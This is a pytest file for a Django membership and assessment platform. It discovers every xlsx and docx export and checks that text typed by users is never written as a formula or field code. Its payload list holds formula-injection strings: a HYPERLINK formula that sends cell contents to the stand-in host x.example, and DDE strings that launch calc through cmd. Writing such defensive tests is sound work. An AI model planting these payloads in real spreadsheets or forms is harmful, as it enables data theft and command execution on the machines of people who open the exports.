"""Every export the platform offers writes hostile text as text, never as a formula.

A member name, activity title, finding category or org name that starts with "=" (or "+",
"-", "@", a tab, a carriage return) is what a user typed; opened in Excel it must stay that
text. This test does not list the exports by hand: it walks the URL resolver and asks every
page for `?export=xlsx` / `?export=docx` (and as it is), keeps each answer that is an xlsx
or docx, and looks through the management commands for those that write xlsx. Before that
it plants a hostile value in every free-text column of every row of the platform's models.
Each workbook is opened with openpyxl: no cell may be a formula (data_type "f"), and the
data exports must carry a planted value exactly as planted (no quote, no escaping).
"""

from __future__ import annotations

import argparse
import io
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.apps import apps
from django.core.management import call_command, get_commands, load_command_class
from django.db import models
from openpyxl import load_workbook

from dangjian.core.excel.workbook import XLSX_CONTENT_TYPE
from dangjian.core.testing.routes import PK, Route, routes, urls_of

DOCX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXPORT_TYPES = {XLSX_CONTENT_TYPE: "xlsx", DOCX_CONTENT_TYPE: "docx"}

# What an attacker would type: live formulas, DDE, and the other characters that start one.
PAYLOADS = [
    '=HYPERLINK("http://x.example/?d="&A1,"点此核对")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]

# Text columns left alone, each for a reason: they are machine-made (hashes, random file
# names, tree paths, blind indexes), references into the code (rule ids, importer names) or
# validated identifiers whose format the pages rely on (ID numbers, phones).
MACHINE_FIELDS = {
    "path",
    "stored_name",
    "sha256",
    "content_type",
    "rule_id",
    "password",
    "username",
    "id_number",
    "phone",
    "name_initials",
    "code",
    "parent_code",
    "key",
    "source_key",
    "dedupe_key",
    "url",
}
SKIPPED_APPS = {"audit"}  # append-only, hash-chained: rows are never edited


def hostile(i: int, max_length: int | None, suffix: str = "") -> str:
    for j in range(len(PAYLOADS)):
        value = PAYLOADS[(i + j) % len(PAYLOADS)] + suffix
        if max_length is None or len(value) <= max_length:
            return value
    return "=1"[: max_length or 2]


def plantable(field: models.Field) -> bool:
    return (
        isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not field.primary_key
        and field.name not in MACHINE_FIELDS
        and not field.name.endswith(("_blind", "_hash"))
        and type(field).__module__.startswith("django.")  # not an encrypted field
    )


def plant_everywhere() -> set[str]:
    """Overwrite every free-text column of every row with a payload; the values planted."""
    planted: set[str] = set()
    n = 0
    for model in apps.get_models():
        if not model.__module__.startswith("dangjian.") or model._meta.app_label in SKIPPED_APPS:
            continue
        if model._meta.proxy or not model._meta.managed:
            continue
        fields = [f for f in model._meta.concrete_fields if plantable(f)]
        if not fields:
            continue
        for pk in model._base_manager.values_list("pk", flat=True):
            values = {}
            for field in fields:
                suffix = f"#{pk}" if field.unique else ""
                values[field.attname] = hostile(n, field.max_length, suffix)
                n += 1
            model._base_manager.filter(pk=pk).update(**values)
            planted.update(values.values())
    return planted


@pytest.fixture
def planted(world) -> set[str]:
    return plant_everywhere()


# --- discovery ------------------------------------------------------------------------


def argument_values() -> dict[str, list[str]]:
    """Values to try for each converter: our one id, the importer names, a rule id."""
    from dangjian.core.imports import importers
    from dangjian.rules.loader import get_library

    names = importers.names()
    rule = next(iter(get_library())).id
    return {
        "IntConverter": [str(PK)],
        "SlugConverter": names,
        "StringConverter": [*names, rule],
        "PathConverter": names,
    }


def api_renders_office(route: Route) -> bool:
    renderers = getattr(route.view_class, "renderer_classes", ()) or ()
    return any(getattr(r, "media_type", "") in EXPORT_TYPES for r in renderers)


@dataclass
class Export:
    source: str  # URL name or command
    url: str
    kind: str  # xlsx | docx
    data: bytes
    has_user_data: bool  # a data export (not a blank import template)


def discover_http(client) -> list[Export]:
    """Every URL that answers an xlsx or docx: as it is (a file such as an import template),
    else when asked for `?export=xlsx|docx` (a page's export of its data), or `?format=xlsx`
    for an API view that declares an office renderer."""
    values = argument_values()
    found: list[Export] = []
    for route in routes():
        if route.is_api and not api_renders_office(route):
            continue
        queries = ["?format=xlsx"] if route.is_api else ["?export=xlsx", "?export=docx"]
        for url in urls_of(route, values):
            export = _fetch(client, route, url, "")
            if export is not None:
                found.append(export)
                continue
            found.extend(e for q in queries if (e := _fetch(client, route, url, q)) is not None)
    return found


def _fetch(client, route: Route, url: str, query: str) -> Export | None:
    response = client.get(url + query)
    kind = EXPORT_TYPES.get(response.get("Content-Type", "").split(";")[0])
    if response.status_code != 200 or kind is None:
        return None
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return Export(route.name, url + query, kind, data, has_user_data=bool(query))


def xlsx_commands() -> list[tuple[str, list[str], bool]]:
    """(command, sub-command path, has --output) for every command that can write xlsx."""
    out = []
    for name, app in get_commands().items():
        if not str(app).startswith("dangjian"):
            continue
        parser = load_command_class(app, name).create_parser("dangjian", name)
        out.extend((name, path, has_output) for path, has_output in _xlsx_parsers(parser, []))
    return out


def _xlsx_parsers(parser: argparse.ArgumentParser, path: list[str]):
    options = {s for a in parser._actions for s in a.option_strings}
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for sub, subparser in action.choices.items():
                yield from _xlsx_parsers(subparser, [*path, sub])
        elif action.choices and "xlsx" in action.choices and action.option_strings:
            yield [*path, action.option_strings[-1], "xlsx"], "--output" in options


def discover_cli(tmp_path: Path) -> list[Export]:
    found = []
    for i, (name, args, has_output) in enumerate(xlsx_commands()):
        target = tmp_path / f"export-{i}.xlsx"
        assert has_output, f"{name} {' '.join(args)} writes xlsx without --output"
        call_command(name, *args, "--output", str(target), stdout=io.StringIO())
        found.append(Export(f"cli:{name}", " ".join(args), "xlsx", target.read_bytes(), True))
    return found


# --- checks ---------------------------------------------------------------------------


def xlsx_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))  # formulas kept as formulas (data_only=False)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def docx_texts(data: bytes) -> tuple[list[str], str]:
    from docx import Document

    doc = Document(io.BytesIO(data))
    texts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        texts.extend(cell.text for row in table.rows for cell in row.cells)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        xml = zf.read("word/document.xml").decode()
    return texts, xml


KNOWN_HTTP = {
    ("members:member_list", "xlsx"),
    ("activities:activity_list", "xlsx"),
    ("orgs:organization_list", "xlsx"),
    ("assessments:negative_list", "xlsx"),
    ("assessments:negative_list", "docx"),
    ("rules:sweep", "xlsx"),
    ("imports:template", "xlsx"),
    ("assessments:liaison_profile", "docx"),
}


def test_no_export_writes_a_formula(world, planted, client, tmp_path):
    client.force_login(world.user)
    exports = discover_http(client) + discover_cli(tmp_path)

    found = {(e.source, e.kind) for e in exports}
    assert exports, "no export was found at all"
    assert found >= KNOWN_HTTP, f"exports not found: {KNOWN_HTTP - found}"
    assert any(e.source == "cli:rules" for e in exports)
    # Every list view that declares an exporter was reached by the probe.
    with_exporter = {r.name for r in routes() if getattr(r.view_class, "exporter", None)}
    assert with_exporter and with_exporter <= {e.source for e in exports}

    problems = []
    for export in exports:
        if export.kind == "xlsx":
            texts = []
            for cell in xlsx_cells(export.data):
                if cell.data_type == "f":
                    problems.append(f"{export.url}: {cell.coordinate} is a formula: {cell.value!r}")
                if isinstance(cell.value, str):
                    texts.append(cell.value)
        else:
            texts, xml = docx_texts(export.data)
            if "<w:fldSimple" in xml or "<w:instrText" in xml:
                problems.append(f"{export.url}: docx holds a field code")
        # xlsx: some cell holds a planted value exactly; docx: some text contains one.
        intact = (
            planted & set(texts)
            if export.kind == "xlsx"
            else any(p in t for p in planted for t in texts)
        )
        if export.has_user_data and not intact:
            problems.append(f"{export.url}: no planted value came through intact")
    assert not problems, "\n".join(problems)


def test_the_planting_covers_the_exported_columns(world, planted):
    """The check above is only as good as the planting: names, titles and categories."""
    from dangjian.activities.models import Activity
    from dangjian.assessments.models import Finding
    from dangjian.members.models import Member
    from dangjian.orgs.models import Organization

    assert Member.objects.get(pk=PK).name in planted
    assert Activity.objects.get(pk=PK).title in planted
    assert Finding.objects.get().category in planted
    assert Organization.objects.get(pk=PK).name in planted
    assert {p[0] for p in planted} >= {"=", "+", "-", "@", "\t", "\r"}
